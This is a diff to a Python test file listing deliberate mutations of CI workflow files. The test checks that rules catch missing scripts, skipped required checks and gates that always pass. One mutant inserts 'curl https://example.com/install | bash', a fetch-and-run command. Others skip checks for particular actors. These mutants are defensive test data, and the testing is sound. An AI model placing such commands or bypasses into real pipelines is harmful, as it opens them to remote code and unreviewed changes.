@@ -2,12 +2,13 @@
 
 from typing import Final
 
-from tests.repository.workflow_rules import ONLY_SUCCESSES
+from tests.repository.workflow_rules import ACCEPT
 
 CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 PULL_REQUEST = "workflows/pull-request.yml"
 COMMENT = "workflows/comment.yml"
 TRAIN = "workflows/train.yml"
+MAIN = "workflows/main.yml"
 RELEASE = "workflows/release.yml"
 ROLLBACK = "workflows/rollback.yml"
 SETUP = "actions/setup/action.yml"
@@ -201,10 +202,10 @@ MUTANTS: Final = {
             "pipeline.experiment_tracking",
             "pipeline.experiment_traking",
         ),
-        ("a script that is not there", TRAIN, "run: .ci/tools", "run: .ci/tool"),
+        ("a script that is not there", MAIN, "run: .ci/tools", "run: .ci/tool"),
         (
             "somebody's script",
-            TRAIN,
+            MAIN,
             "run: .ci/tools",
             "run: curl https://example.com/install | bash",
         ),
@@ -213,8 +214,8 @@ MUTANTS: Final = {
         (
             "a check that is not required",
             PULL_REQUEST,
-            "workflow-lint, report, image]",
-            "workflow-lint, report]",
+            "integration, workflows, image]",
+            "integration, workflows]",
         ),
         (
             "a skipped check that passes",
@@ -222,7 +223,12 @@ MUTANTS: Final = {
             "    if: always() # a skipped check would count as passed\n",
             "",
         ),
-        ("a gate that always opens", PULL_REQUEST, f"run: {ONLY_SUCCESSES}", "run: grep --version"),
+        (
+            "a gate that always opens",
+            PULL_REQUEST,
+            f"run: {ACCEPT % (4, 3)}",
+            "run: grep --version",
+        ),
         (
             "a failure that passes",
             PULL_REQUEST,
@@ -232,8 +238,20 @@ MUTANTS: Final = {
         (
             "a check that may be skipped",
             PULL_REQUEST,
-            "    name: image\n",
-            "    name: image\n    if: github.actor != 'dependabot[bot]'\n",
+            "    name: check\n",
+            "    name: check\n    if: github.actor != 'dependabot[bot]'\n",
+        ),
+        (
+            "a check that is skipped for another reason than the change",
+            PULL_REQUEST,
+            "    if: needs.affected.outputs.image == 'true'\n",
+            "    if: needs.affected.outputs.image == 'true' && github.actor != 'ann'\n",
+        ),
+        (
+            "a check that must run among those that may be skipped",
+            PULL_REQUEST,
+            "fast, report, integration, workflows, image]",
+            "fast, integration, report, workflows, image]",
         ),
     ],
     "no_secret_for_every_job": [
@@ -260,7 +278,7 @@ MUTANTS: Final = {
             "steps.image.outputs.digest",
             "steps.imag.outputs.digest",
         ),
-        ("a job that does not exist", TRAIN, "needs: test", "needs: tests"),
+        ("a job that does not exist", MAIN, "needs: test", "needs: tests"),
         ("an unquoted word", ROLLBACK, '--reason="$REASON"', "--reason=$REASON"),
         ("a misspelt key", TRAIN, "    timeout-minutes: 60", "    timeout-minute: 60"),
         (
